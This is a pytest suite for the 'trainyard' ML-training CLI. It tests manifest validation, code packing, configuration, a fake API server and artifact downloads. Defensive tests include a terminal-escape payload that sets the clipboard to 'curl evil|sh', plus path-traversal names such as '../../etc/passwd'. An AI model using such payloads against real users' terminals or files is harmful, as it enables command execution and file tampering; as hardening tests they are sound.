"""The `trainyard` CLI: offline checks, packing, configuration, and its dialogue with a fake API server.

No database is needed: the server side is tests/support/fake_api.py on a real local port.
"""
import io
import json
import os
import socket
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from learner_agent.archive import inspect_archive
from tests.support.fake_api import TOKEN, FakeTrainyard
from trainyard import cli, client, config, packing, render
from trainyard.errors import TrainyardError, UsageError

REPO = Path(__file__).resolve().parents[2]
FFDL_EXAMPLES = sorted((REPO.parent / "shared" / "ffdl" / "examples").glob("*.yml"))
OUR_EXAMPLES = sorted((REPO / "examples").glob("*/manifest.yml"))
GOOD_MANIFEST = "name: demo\ncpus: 1\nmemory: 1GiB\nframework: {name: custom, command: sh run.sh}\n"


def run(*argv):
    try:
        return cli.main([str(a) for a in argv])
    except SystemExit as exit_:  # argparse usage errors
        return exit_.code


@pytest.fixture(autouse=True)
def isolated_config(tmp_path, monkeypatch):
    """No test reads the developer's own ~/.config/trainyard or TRAINYARD_* variables."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for name in ("XDG_CONFIG_HOME", "TRAINYARD_URL", "TRAINYARD_TOKEN", "TRAINYARD_TENANT", "TRAINYARD_CLI_DEBUG"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def api(monkeypatch):
    with FakeTrainyard() as fake:
        monkeypatch.setenv("TRAINYARD_URL", fake.url)
        monkeypatch.setenv("TRAINYARD_TOKEN", TOKEN)
        monkeypatch.setattr(client, "POLL_SECONDS", 0.01)
        yield fake


@pytest.fixture
def code_dir(tmp_path):
    root = tmp_path / "code"
    (root / "pkg" / "__pycache__").mkdir(parents=True)
    (root / "run.sh").write_text("echo hi\n")
    (root / "pkg" / "model.py").write_text("x = 1\n")
    (root / "pkg" / "model.pyc").write_bytes(b"\0")
    (root / "pkg" / "__pycache__" / "model.cpython-311.pyc").write_bytes(b"\0")
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / ".venv" / "bin").mkdir(parents=True)
    (root / ".venv" / "bin" / "python").write_text("")
    return root


def write(path, text):
    path.write_text(text)
    return path


def packed_names(root):
    out = io.BytesIO()
    packing.pack_directory(root, out)
    with tarfile.open(fileobj=out, mode="r:gz") as tar:
        return {m.name: m for m in tar.getmembers()}


def closed_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# --- validate --------------------------------------------------------------------------------------
@pytest.mark.parametrize("manifest", FFDL_EXAMPLES + OUR_EXAMPLES, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_it_validates_ffdl_and_bundled_manifests(manifest, capsys):
    assert run("validate", manifest) == 0
    out = capsys.readouterr().out
    assert "ok" in out
    if manifest in FFDL_EXAMPLES:
        assert "  mapped: " in out  # every FfDL example needs some translation, and validate says which


def test_it_explains_how_an_old_ffdl_framework_version_runs(capsys):
    assert run("validate", next(p for p in FFDL_EXAMPLES if p.name == "tf-model-manifest.yml")) == 0
    out = capsys.readouterr().out
    assert "  mapped: version '1.5.0-py3' is older than Trainyard runs: TensorFlow 2.12 or newer" in out
    assert "  mapped: data store 'sl-internal-os': mount_cos is read as s3_datastore" in out


def test_it_finds_all_four_ffdl_examples():
    assert len(FFDL_EXAMPLES) == 4


@pytest.mark.parametrize("text, field", [
    ("name: x\nmemory: 4XB\nframework: {name: pytorch, command: a}\n", "memory"),
    ("name: x\nframework: {name: pytorch}\n", "framework.command"),
    ("name: x\npriority: urgent\nframework: {name: pytorch, command: a}\n", "priority"),
    ("name: x\ngpu: 1\nframework: {name: pytorch, command: a}\n", "gpu"),
    ("name: x\nframework: {name: pytorch, command: a}\n  bad: [indent\n", "manifest"),
])
def test_it_rejects_a_bad_manifest_naming_the_field(tmp_path, capsys, text, field):
    manifest = write(tmp_path / "manifest.yml", text)
    assert run("validate", manifest) == 2
    err = capsys.readouterr().err
    assert f"invalid manifest: {field}" in err
    assert "Traceback" not in err


def test_it_lists_every_problem_of_a_manifest_one_per_line(tmp_path, capsys):
    manifest = write(tmp_path / "manifest.yml", "name: x\ngpu: 1\nlearners: 0\nframework: {name: pytorch, command: a}\n")
    assert run("validate", manifest) == 2
    err = capsys.readouterr().err
    assert err.endswith("invalid manifest:\n  gpu: unknown field; did you mean 'gpus'?\n"
                        "  learners: 0 is outside 1..64\n"), err


def test_it_reports_a_missing_manifest_file(tmp_path, capsys):
    assert run("validate", tmp_path / "nope.yml") == 2
    assert "No such file" in capsys.readouterr().err


def test_train_checks_the_manifest_before_needing_a_server(tmp_path, code_dir, capsys):
    manifest = write(tmp_path / "manifest.yml", "name: x\nframework: {name: pytorch}\n")
    assert run("train", manifest, code_dir) == 2
    assert "framework.command" in capsys.readouterr().err


# --- packing ---------------------------------------------------------------------------------------
def test_it_packs_a_code_dir_without_caches_or_vcs(code_dir):
    names = packed_names(code_dir)
    assert set(names) == {"run.sh", "pkg", "pkg/model.py"}
    assert names["run.sh"].uid == 0 and names["run.sh"].uname == ""


def test_it_copies_symlinks_that_stay_inside_the_dir(code_dir, tmp_path):
    (code_dir / "data").mkdir()
    (code_dir / "data" / "train.csv").write_text("1,2\n")
    (code_dir / "latest.csv").symlink_to("data/train.csv")
    (code_dir / "alias").symlink_to(code_dir / "data")  # absolute, but inside
    names = packed_names(code_dir)
    assert names["latest.csv"].isfile() and names["alias/train.csv"].isfile()
    assert not any(m.issym() or m.islnk() for m in names.values())
    archive = tmp_path / "code.tar.gz"
    with open(archive, "wb") as out:
        packing.pack_directory(code_dir, out)
    inspect_archive(archive, max_unpacked_bytes=10**7, max_members=100)  # the server's own check


def test_it_refuses_a_symlink_leading_outside_the_dir(code_dir, tmp_path):
    write(tmp_path / "secret.txt", "password")
    (code_dir / "pkg" / "secret").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(UsageError) as refused:
        packed_names(code_dir)
    assert cli.exit_code(refused.value) == 2
    assert "pkg/secret: symlink points outside the code directory" in str(refused.value)


def test_it_refuses_a_relative_symlink_escaping_the_dir(code_dir):
    (code_dir / "up").symlink_to("../..")
    with pytest.raises(UsageError, match="up: symlink points outside"):
        packed_names(code_dir)


def test_it_refuses_a_symlink_loop(code_dir):
    (code_dir / "pkg" / "loop").symlink_to("..")
    with pytest.raises(UsageError, match="loops back"):
        packed_names(code_dir)


def test_it_sends_an_existing_archive_as_is(tmp_path):
    archive = tmp_path / "mine.tar.gz"
    archive.write_bytes(b"\x1f\x8b" + b"rest of the archive")
    upload = packing.code_upload(str(archive))
    assert (upload.filename, upload.size, upload.fileobj.read()) == ("code.tar.gz", 21, archive.read_bytes())
    upload.fileobj.close()


@pytest.mark.parametrize("name, data", [("code.zip", b"not a zip"), ("code.tar.gz", b"plain"), ("code.rar", b"")])
def test_it_refuses_what_is_not_an_archive(tmp_path, name, data):
    (tmp_path / name).write_bytes(data)
    with pytest.raises(UsageError) as refused:
        packing.code_upload(str(tmp_path / name))
    assert cli.exit_code(refused.value) == 2


# --- configuration ---------------------------------------------------------------------------------
def test_login_saves_a_private_config_that_later_commands_use(tmp_path, capsys):
    assert run("login", "--url", "http://example.test:8000/", "--token", "abc", "--tenant", "team-a",
               "--no-verify") == 0
    path = tmp_path / "home" / ".config" / "trainyard" / "config.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert config.load_config() == config.Config("http://example.test:8000", "abc", "team-a")


def test_environment_variables_win_over_the_saved_config_one_by_one(monkeypatch):
    assert run("login", "--url", "http://saved.test", "--token", "saved-token", "--no-verify") == 0
    monkeypatch.setenv("TRAINYARD_URL", "http://saved.test/api/v1/")  # the same platform, written otherwise
    monkeypatch.setenv("TRAINYARD_TENANT", "team-b")
    assert config.load_config() == config.Config("http://saved.test", "saved-token", "team-b")
    monkeypatch.setenv("TRAINYARD_URL", "http://env.test")
    monkeypatch.setenv("TRAINYARD_TOKEN", "env-token")
    assert config.load_config() == config.Config("http://env.test", "env-token", "team-b")


def test_the_saved_token_goes_only_to_the_platform_it_was_saved_for(monkeypatch, capsys):
    # A TRAINYARD_URL set for another platform (a project's, a staging one) must not receive it.
    assert run("login", "--url", "http://prod.test", "--token", "prod-token", "--no-verify") == 0
    monkeypatch.setenv("TRAINYARD_URL", "http://elsewhere.test")
    with pytest.raises(TrainyardError, match="saved is for http://prod.test, not http://elsewhere.test"):
        config.load_config()
    assert run("list") == 2 and "set TRAINYARD_TOKEN" in capsys.readouterr().err


def test_xdg_config_home_moves_the_config(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert run("login", "--url", "http://x.test", "--token", "t", "--no-verify") == 0
    assert (tmp_path / "xdg" / "trainyard" / "config.json").exists()


def test_it_says_how_to_configure_when_nothing_is_set(capsys):
    assert run("list") == 2
    assert "TRAINYARD_URL" in capsys.readouterr().err


@pytest.mark.parametrize("limit", ["0", "201", "many"])
def test_list_refuses_a_page_size_the_api_would_refuse(limit, capsys):
    assert run("list", "--limit", limit) == 2
    assert "--limit" in capsys.readouterr().err


def test_it_refuses_a_url_without_scheme(monkeypatch, capsys):
    monkeypatch.setenv("TRAINYARD_URL", "localhost:8000")
    monkeypatch.setenv("TRAINYARD_TOKEN", "t")
    assert run("list") == 2
    assert "not a Trainyard URL" in capsys.readouterr().err


def test_login_checks_the_token_with_the_server(api, tmp_path, capsys):
    assert run("login", "--url", api.url, "--token", "wrong") == 1
    assert "Invalid token." in capsys.readouterr().err
    assert not (tmp_path / "home" / ".config" / "trainyard" / "config.json").exists()
    assert run("login", "--url", api.url, "--token", TOKEN, "--tenant", "team-a") == 0
    assert "tenant team-a as researcher" in capsys.readouterr().out
    assert api.headers[-1]["X-Trainyard-Tenant"] == "team-a"


# --- errors ----------------------------------------------------------------------------------------
def test_an_unreachable_server_is_one_line_without_traceback(tmp_path):
    url = f"http://127.0.0.1:{closed_port()}"
    env = {**os.environ, "TRAINYARD_URL": url, "TRAINYARD_TOKEN": "t", "HOME": str(tmp_path)}
    done = subprocess.run([sys.executable, "-m", "trainyard", "list"], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert done.stderr.strip() == f"trainyard: cannot reach Trainyard at {url}: Connection refused"
    assert done.stdout == ""


def test_train_against_an_unreachable_server_fails_cleanly(tmp_path, code_dir, monkeypatch, capsys):
    monkeypatch.setenv("TRAINYARD_URL", f"http://127.0.0.1:{closed_port()}")
    monkeypatch.setenv("TRAINYARD_TOKEN", "t")
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), code_dir) == 1
    assert "cannot reach Trainyard" in capsys.readouterr().err


def test_the_cli_does_not_import_django():
    done = subprocess.run([sys.executable, "-c", "import sys, trainyard.cli; print(sorted(m for m in sys.modules "
                           "if m.split('.')[0] in ('django', 'rest_framework', 'celery')))"],
                          cwd=REPO, capture_output=True, text=True, timeout=60)
    assert done.stdout.strip() == "[]", done.stderr


def test_it_prints_the_servers_detail_and_field(api, tmp_path, code_dir, capsys):
    manifest = write(tmp_path / "m.yml", GOOD_MANIFEST.replace("1GiB", "999GiB"))
    assert run("train", manifest, code_dir) == 1
    out, err = capsys.readouterr()
    assert err.strip() == "trainyard: memory: 999 GiB is more than the tenant's quota of 64 GiB"
    assert out == ""


def test_a_bad_token_says_what_to_check(api, monkeypatch, capsys):
    monkeypatch.setenv("TRAINYARD_TOKEN", "wrong")
    assert run("list") == 1
    err = capsys.readouterr().err
    assert "not authorised by" in err and "Invalid token." in err and "TRAINYARD_TOKEN" in err


def test_an_unknown_job_is_not_found(api, capsys):
    assert run("show", "training-nosuchjob") == 1
    assert capsys.readouterr().err.strip() == "trainyard: Not found."


def test_a_refused_action_shows_the_reason(api, capsys):
    api.add_job("training-done0001").status = "COMPLETED"
    assert run("halt", "training-done0001") == 1
    assert "training-done0001 is COMPLETED; it cannot halt" in capsys.readouterr().err


def test_actions_print_the_new_status(api, capsys):
    api.add_job("training-run00001").status = "PROCESSING"
    assert run("halt", "training-run00001") == 0
    assert capsys.readouterr().out.strip() == "training-run00001: HALTING"


def test_delete_asks_at_a_terminal_and_deletes_only_on_yes(api, capsys, monkeypatch):
    api.add_job("training-done0001").status = "COMPLETED"
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    answers = iter(["n", "y"])
    monkeypatch.setattr("builtins.input", lambda prompt: next(answers))
    assert run("delete", "training-done0001") == 1
    assert capsys.readouterr().out.strip() == "training-done0001: not deleted"
    assert "training-done0001" in api.jobs
    assert run("delete", "training-done0001") == 0
    assert capsys.readouterr().out.strip() == "training-done0001: deleted"
    assert "training-done0001" not in api.jobs


def test_delete_of_a_running_job_shows_why_not(api, capsys):
    api.add_job("training-run00001").status = "PROCESSING"
    assert run("delete", "--yes", "training-run00001") == 1
    assert "is PROCESSING; only a job that has ended" in capsys.readouterr().err


# --- train and follow ------------------------------------------------------------------------------
def test_train_uploads_the_packed_code_and_prints_the_job_id(api, tmp_path, code_dir, capsys):
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), code_dir) == 0
    job_id = capsys.readouterr().out.strip()
    job = api.jobs[job_id]
    assert job.manifest["name"] == "demo"
    with tarfile.open(fileobj=io.BytesIO(job.code), mode="r:gz") as tar:
        assert set(tar.getnames()) == {"run.sh", "pkg", "pkg/model.py"}


def test_train_names_swapped_arguments(api, tmp_path, code_dir, capsys):
    manifest = write(tmp_path / "m.yml", GOOD_MANIFEST)
    assert run("train", code_dir, manifest) == 2
    err = capsys.readouterr().err
    assert "is a folder, not a manifest" in err and "trainyard train MANIFEST CODE_DIR_OR_ARCHIVE" in err
    assert not api.jobs


def test_train_refuses_a_code_folder_without_files(api, tmp_path, capsys):
    empty = tmp_path / "empty"
    (empty / "__pycache__").mkdir(parents=True)
    (empty / "__pycache__" / "x.pyc").write_bytes(b"")
    (empty / "src").mkdir()
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), empty) == 2
    assert "holds no files to send" in capsys.readouterr().err
    assert not api.jobs


def test_train_sets_manifest_fields_and_the_name_before_uploading(api, tmp_path, code_dir, capsys):
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), code_dir, "--set", "learners=2",
               "--set", "framework.command=sh run.sh --lr 0.01", "--set", "gpus=1", "--name", "demo-lr-0.01") == 0
    sent = api.jobs[capsys.readouterr().out.strip()].manifest
    assert sent["name"] == "demo-lr-0.01" and sent["learners"] == 2 and sent["gpus"] == 1
    assert sent["framework"] == {"name": "custom", "command": "sh run.sh --lr 0.01"}
    assert sent["memory"] == "1GiB"  # the file's other fields, as they were


def test_train_names_a_set_key_the_manifest_does_not_have_and_uploads_nothing(api, tmp_path, code_dir, capsys):
    manifest = write(tmp_path / "m.yml", GOOD_MANIFEST)
    assert run("train", manifest, code_dir, "--set", "framework.comand=x") == 2
    assert capsys.readouterr().err.strip() == (f"trainyard: {manifest} with --set/--name: invalid manifest: "
                                               "framework.comand: unknown field; did you mean 'command'?")
    assert run("train", manifest, code_dir, "--set", "gpus=lots", "--set", "name.first=x") == 2
    assert "name.first: name is 'demo', not a section with fields" in capsys.readouterr().err
    assert not api.jobs


def test_train_refuses_a_set_without_a_value(api, tmp_path, code_dir, capsys):
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), code_dir, "--set", "learners") == 2
    assert "argument --set: 'learners' is not KEY=VALUE" in capsys.readouterr().err
    assert not api.jobs


def test_the_sdk_submits_with_overrides_and_a_name(api, tmp_path, code_dir):
    sdk = client.Client()
    job = sdk.submit(GOOD_MANIFEST, code_dir, overrides={"learners": 2, "framework.command": "sh run.sh 2"},
                     name="second")
    assert api.jobs[job["id"]].manifest["learners"] == 2 and job["name"] == "second"
    job = sdk.submit(GOOD_MANIFEST, code_dir, overrides=["cpus=0.5"])
    assert api.jobs[job["id"]].manifest["cpus"] == 0.5
    with pytest.raises(UsageError, match="manifest: name.first: name is 'demo', not a section"):
        sdk.submit(GOOD_MANIFEST, code_dir, overrides={"name.first": "x"})


def test_train_follow_streams_every_line_and_exits_0_on_completed(api, tmp_path, code_dir, capsys):
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), code_dir, "--follow") == 0
    out, err = capsys.readouterr()
    job_id, *lines = out.splitlines()
    assert lines == [f"demo line {n}" for n in range(1, 8)]  # including those stored with the final status
    assert err.strip() == f"trainyard: {job_id} COMPLETED"


def test_train_follow_exits_1_with_the_reason_on_failed(api, tmp_path, capsys):
    example = REPO / "examples" / "failing"
    assert run("train", example / "manifest.yml", example, "--follow") == 1
    out, err = capsys.readouterr()
    assert out.splitlines()[1:] == ["failing line 1", "failing line 2", "failing line 3"]
    assert "FAILED: learner 0 exited with code 3" in err


def test_follow_rides_out_a_server_restart(api, capsys):
    api.add_job("training-run00001")
    api.fail_log_polls = 2
    assert run("logs", "training-run00001", "--follow") == 0
    out, err = capsys.readouterr()
    assert out.splitlines() == [f"demo line {n}" for n in range(1, 8)]
    assert "server error (HTTP 503): restarting; retrying" in err and "reconnected" in err


def test_logs_without_follow_prints_what_is_stored(api, capsys):
    job = api.add_job("training-run00001")
    job.stored = 3
    assert run("logs", "training-run00001", "--since", "1") == 0
    assert capsys.readouterr().out.splitlines() == ["demo line 2", "demo line 3"]


# --- what reaches a terminal -----------------------------------------------------------------------
HOSTILE = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2Jy"  # sets the clipboard to `curl evil|sh`, clears the screen
SHOWN = "x\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2Jy"


def test_text_from_the_server_reaches_a_terminal_with_its_control_characters_written_out(api, capsys, monkeypatch):
    monkeypatch.setattr(render, "isatty", lambda stream: True)  # stdout and stderr are a terminal
    job = api.add_job("training-esc0000001", name=HOSTILE)
    job.stored = 2
    assert run("list") == 0 and run("logs", "training-esc0000001") == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert SHOWN in out.splitlines()[1] and out.splitlines()[-1] == f"{SHOWN} line 2"


def test_colours_pass_and_a_pipe_gets_the_bytes_as_stored(api, capsys, monkeypatch):
    assert render.visible("\x1b[1;31mred\x1b[0m\tand\r\x9b2J") == "\x1b[1;31mred\x1b[0m\tand\\r\\x9b2J"
    api.add_job("training-esc0000001", name=HOSTILE).stored = 1
    assert run("logs", "training-esc0000001") == 0  # not a terminal: `trainyard logs ID > out.log`
    assert capsys.readouterr().out == f"{HOSTILE} line 1\n"


# --- reading ---------------------------------------------------------------------------------------
def test_show_prints_a_summary_or_json(api, capsys):
    api.add_job("training-done0001").status = "COMPLETED"
    assert run("show", "training-done0001") == 0
    out = capsys.readouterr().out
    assert "training-done0001  demo" in out and "COMPLETED" in out
    assert "1 learner × 0 GPU, 1 CPU, 1.0 GiB" in out and "loss 0.25 (step 8)" in out
    assert f"{api.url}/jobs/training-done0001/" in out
    assert run("show", "training-done0001", "--json") == 0
    assert json.loads(capsys.readouterr().out)["status"] == "COMPLETED"


def test_a_job_may_be_named_by_the_start_of_its_id(api, capsys):
    api.add_job("training-5o220ujggl").status = "COMPLETED"
    api.add_job("training-7hq2aaaaaa")
    api.add_job("training-7hq2bbbbbb")
    for given in ("training-5o2", "5o22", "5"):
        assert run("show", given, "--json") == 0, capsys.readouterr().err
        assert json.loads(capsys.readouterr().out)["id"] == "training-5o220ujggl"
    assert run("show", "7hq2") == 2
    assert "'training-7hq2' starts the ids of 2 jobs (training-7hq2aaaaaa, training-7hq2bbbbbb)" in \
        capsys.readouterr().err
    assert run("show", "zzz") == 1  # starts no id: the server's 404 says so
    assert "not found" in capsys.readouterr().err.lower()


def test_a_start_of_an_id_resolves_only_to_an_id_of_the_platforms_form(api):
    # A hostile server's list names a job whose id would climb out of ./ID/, where download writes.
    api.add_job("training-5o2/../../.bashrc")
    assert client.Client(api.url, TOKEN).resolve_job_id("5o2") == "5o2"  # the server's 404 then says so


def test_show_prints_an_elastic_jobs_allocation_timeline(api, capsys):
    job = api.add_job("training-elas0001", "elastic")
    job.status = "PROCESSING"
    job.elastic = {"min_learners": 1, "max_learners": 4, "batch": {"global": 256, "min": 64, "max": 1024},
                   "lr_scaling": "sqrt", "learners": 4, "global_batch": 512, "local_batch": 128, "lr_scale": 1.41421,
                   "allocation_attempt": 2}
    job.allocations = [
        {"attempt": 1, "learners": 2, "global_batch": 256, "local_batch": 128, "lr_scale": 1.0,
         "reason": "admitted at 2 of 1–4 learners", "started_at": "2026-05-01T10:00:00+00:00",
         "ended_at": "2026-05-01T10:01:40+00:00", "resize_cost_s": None, "samples_per_s": 256.0},
        {"attempt": 2, "learners": 4, "global_batch": 512, "local_batch": 128, "lr_scale": 1.41421,
         "reason": "resized 2→4 learners, batch 256→512: idle GPUs", "started_at": "2026-05-01T10:01:47+00:00",
         "ended_at": None, "resize_cost_s": 7.46, "samples_per_s": None}]
    assert run("show", "training-elas0001") == 0
    out = capsys.readouterr().out
    assert "elastic    4 of 1–4 learners, batch 512 (128 each, lr ×1.41421), lr scaling sqrt" in out
    header, first, second = out.split("allocations\n")[1].splitlines()
    assert header.split() == ["ATTEMPT", "LEARNERS", "BATCH", "LR×", "SAMPLES/S", "RESIZE", "STARTED", "REASON"]
    assert first.split()[:6] == ["1", "2", "256", "(128", "each)", "1"] and "256.0" in first and "admitted" in first
    assert second.split()[:8] == ["2", "4", "512", "(128", "each)", "1.41421", "running", "7.5s"]
    assert second.endswith("resized 2→4 learners, batch 256→512: idle GPUs")
    assert run("show", "training-elas0001", "--json") == 0
    assert [a["attempt"] for a in json.loads(capsys.readouterr().out)["allocations"]] == [1, 2]


def test_show_marks_a_batch_change_still_on_its_way(api, capsys):
    job = api.add_job("training-elas0002", "elastic")
    job.status = "PROCESSING"
    job.elastic = {"min_learners": 1, "max_learners": 4, "batch": {"global": 64, "min": 32, "max": 256},
                   "lr_scaling": "linear", "learners": 2, "global_batch": 64, "local_batch": 32, "lr_scale": 1.0,
                   "allocation_attempt": 1}
    job.allocations = [
        {"attempt": 1, "kind": "start", "learners": 2, "global_batch": 64, "local_batch": 32, "lr_scale": 1.0,
         "reason": "admitted", "started_at": "2026-05-01T10:00:00+00:00", "ended_at": None,
         "resize_cost_s": None, "samples_per_s": None},
        {"attempt": 1, "kind": "batch", "learners": 2, "global_batch": 256, "local_batch": 128, "lr_scale": 4.0,
         "reason": "batch 64→256, no restart: its measured gradient noise scale", "started_at": None,
         "ended_at": None, "resize_cost_s": None, "samples_per_s": None}]
    job.allocations.insert(1, dict(job.allocations[1], global_batch=128, ended_at="2026-05-01T10:10:00+00:00",
                                   reason="batch 64→128, no restart: … (withdrawn: not applied after 601 s)"))
    assert run("show", "training-elas0002") == 0
    _, first, withdrawn, asked = capsys.readouterr().out.split("allocations\n")[1].splitlines()
    assert "running" in first.split() and "withdrawn" in withdrawn.split() and "asked" in asked.split()


def test_show_prints_no_timeline_for_a_fixed_job(api, capsys):
    api.add_job("training-done0001")
    assert run("show", "training-done0001") == 0
    out = capsys.readouterr().out
    assert "allocations" not in out and "elastic" not in out
    assert not any("/allocations/" in str(h) for h in api.requested_paths)


@pytest.mark.parametrize("suffix", ["/", "/api/v1", "/api/v1/", "/api"])
def test_it_takes_a_url_copied_with_the_api_path(api, monkeypatch, capsys, suffix):
    api.add_job("training-aaaa0001", "first")
    monkeypatch.setenv("TRAINYARD_URL", api.url + suffix)
    assert run("list") == 0, capsys.readouterr().err
    assert "training-aaaa0001" in capsys.readouterr().out


def test_list_prints_a_table(api, capsys):
    api.add_job("training-aaaa0001", "first")
    api.add_job("training-bbbb0002", "second").status = "COMPLETED"
    assert run("list") == 0
    header, *rows = capsys.readouterr().out.splitlines()
    assert header.split()[:3] == ["ID", "NAME", "STATUS"]
    assert [r.split()[:3] for r in rows] == [["training-aaaa0001", "first", "QUEUED"],
                                             ["training-bbbb0002", "second", "COMPLETED"]]
    assert run("list", "--status", "COMPLETED", "--json") == 0
    assert json.loads(capsys.readouterr().out)["count"] == 1


def experiment_row(experiment_id, state):
    return {"id": experiment_id, "name": "lr-sweep", "searcher": "grid", "metric": "val_loss", "state": state,
            "trials_started": 2, "max_trials": 4, "best_value": 0.31, "owner": "alice",
            "created_at": "2026-05-01T10:00:00+00:00"}


@pytest.fixture
def experiments_api(api, monkeypatch):
    """The fake API with a paused and an active experiment; its `?state=` matches the stored state exactly."""
    rows = [experiment_row("exp-paused01", "PAUSED"), experiment_row("exp-active01", "ACTIVE")]
    served = api.handle

    def handle(method, path, query, headers, body):
        if method == "GET" and path == "/api/v1/experiments/":
            api.requested_paths.append(path)
            found = [row for row in rows if query.get("state") in (None, row["state"])]
            return 200, {"count": len(found), "next": None, "previous": None, "results": found}
        return served(method, path, query, headers, body)

    monkeypatch.setattr(api, "handle", handle)
    return api


@pytest.mark.parametrize("state", ["paused", "Paused", "PAUSED"])
def test_experiment_list_takes_a_state_in_any_case(experiments_api, capsys, state):
    assert run("experiment", "list", "--state", state) == 0, capsys.readouterr().err
    header, *rows = capsys.readouterr().out.splitlines()
    assert header.split()[:4] == ["ID", "NAME", "SEARCHER", "STATE"]
    assert [row.split()[0] for row in rows] == ["exp-paused01"]


def test_metrics_prints_points(api, capsys):
    api.add_job("training-run00001")
    assert run("metrics", "training-run00001", "--name", "loss") == 0
    rows = capsys.readouterr().out.splitlines()[1:]
    assert [r.split()[:3] for r in rows] == [["loss", "1", "0.9"], ["loss", "2", "0.5"]]


def test_quota_prints_usage_against_quota(api, capsys):
    assert run("quota") == 0
    out = capsys.readouterr().out
    assert "team-a" in out and "researcher" in out and "queued  3 jobs asking for 5 GPUs" in out
    lines = [line.split() for line in out.splitlines()]
    assert ["memory", "in", "use", "1.0", "GiB", "64.0", "GiB"] in lines
    assert ["jobs", "running", "2", "no", "limit"] in lines
    assert ["GPU-hours", "this", "period", "12.5", "100"] in lines
    assert "budget period  2026-11-01 to 2026-12-01 (hard limit)" in out


# --- download --------------------------------------------------------------------------------------
def test_download_fetches_results_into_a_folder_named_after_the_job(api, tmp_path, monkeypatch, capsys):
    api.add_job("training-done0001")
    monkeypatch.chdir(tmp_path)
    assert run("download", "training-done0001") == 0
    folder = tmp_path / "training-done0001"
    assert (folder / "results" / "model.pt").read_bytes() == api.artifacts["results/model.pt"]
    assert (folder / "results" / "metrics.json").exists() and not (folder / "checkpoints").exists()
    assert "2 result files" in capsys.readouterr().out


def test_download_checkpoints_into_a_chosen_dir(api, tmp_path):
    api.add_job("training-done0001")
    assert run("download", "training-done0001", "--checkpoint", "-o", tmp_path / "out") == 0
    assert [p.name for p in (tmp_path / "out").rglob("*") if p.is_file()] == ["epoch-2.pt"]


def test_download_refuses_a_file_that_does_not_match_its_checksum(api, tmp_path, capsys):
    api.add_job("training-done0001")
    api.corrupt.add("results/model.pt")
    assert run("download", "training-done0001", "-o", tmp_path / "out") == 1
    assert "does not match its sha256" in capsys.readouterr().err
    assert not (tmp_path / "out" / "results" / "model.pt").exists()
    assert not [p for p in (tmp_path / "out").rglob(".download-*")]


def test_download_takes_no_more_than_the_size_listed(api, tmp_path, monkeypatch, capsys):
    # A hostile server lists 10 bytes without a sha256, then sends without end.
    api.add_job("training-done0001")
    listed = api.artifact_list
    monkeypatch.setattr(api, "artifact_list", lambda **kw: (200, {**listed(**kw)[1], "results": [
        {"name": "results/model.pt", "kind": "result", "size": 10, "sha256": "", "attempt": 1}]}))
    assert run("download", "training-done0001", "-o", tmp_path / "out") == 1
    assert "sends more than the 10 bytes it listed" in capsys.readouterr().err
    assert [p for p in (tmp_path / "out").rglob("*") if p.is_file()] == []


def test_an_answer_is_read_only_up_to_its_bound(api, monkeypatch):
    monkeypatch.setattr(client, "MAX_ANSWER_BYTES", 400)  # an endless answer, as far as the client can tell
    for n in range(10):
        api.add_job(f"training-many{n:06d}")
    with pytest.raises(TrainyardError, match="larger than"):
        client.Client(api.url, TOKEN).jobs()


@pytest.mark.parametrize("message", [[1], "text", {"type": "job", "job": [1]}, {"type": "status", "status": {}}])
def test_a_job_stream_message_of_no_known_shape_carries_no_status(message):
    assert client._status_in(message) in (None, {})


def test_the_sdk_follows_the_artifact_pages_to_the_last(api):
    api.add_job("training-done0001")
    sdk = client.Client(api.url, TOKEN)
    pages = list(sdk.artifact_pages("training-done0001"))
    assert [[a["name"] for a in page] for page in pages] == [
        ["checkpoints/epoch-2.pt"], ["results/metrics.json"], ["results/model.pt"]]  # the fake's pages are 1 file
    assert [a["name"] for a in sdk.artifacts("training-done0001")] == ["results/metrics.json", "results/model.pt"]


def test_download_refuses_unsafe_names():
    with pytest.raises(TrainyardError, match="unsafe"):
        client.safe_target("/tmp/x", "../../etc/passwd")


@pytest.mark.parametrize("name", ["results/..\\..\\x", "results/C:x", "results/model.pt:stream"])
def test_download_to_windows_refuses_names_that_climb_out_there(name):
    import ntpath
    with pytest.raises(TrainyardError, match="unsafe"):
        client.safe_target("C:\\out", name, path=ntpath)
    assert client.safe_target("/tmp/out", name) == "/tmp/out/" + name  # a plain file name on POSIX
    assert client.safe_target("C:\\out", "results/model.pt", path=ntpath) == "C:\\out\\results\\model.pt"


def test_train_json_prints_the_whole_job(api, tmp_path, code_dir, capsys):
    assert run("train", write(tmp_path / "m.yml", GOOD_MANIFEST), code_dir, "--json") == 0
    job = json.loads(capsys.readouterr().out)
    assert job["id"] in api.jobs and job["status"] == "QUEUED"


def test_the_upload_body_reports_progress_up_to_its_length(tmp_path):
    data = os.urandom(100_000)
    upload = packing.Upload(io.BytesIO(data), "code.tar.gz", "application/gzip", len(data))
    screen = io.StringIO()
    progress = render.Progress("uploading", stream=screen, enabled=True)
    body = client.MultipartBody([("code", upload)], on_read=progress.update)
    chunks = iter(lambda: body.read(8192), b"")
    sent = b"".join(chunks)
    assert len(sent) == len(body) and data in sent
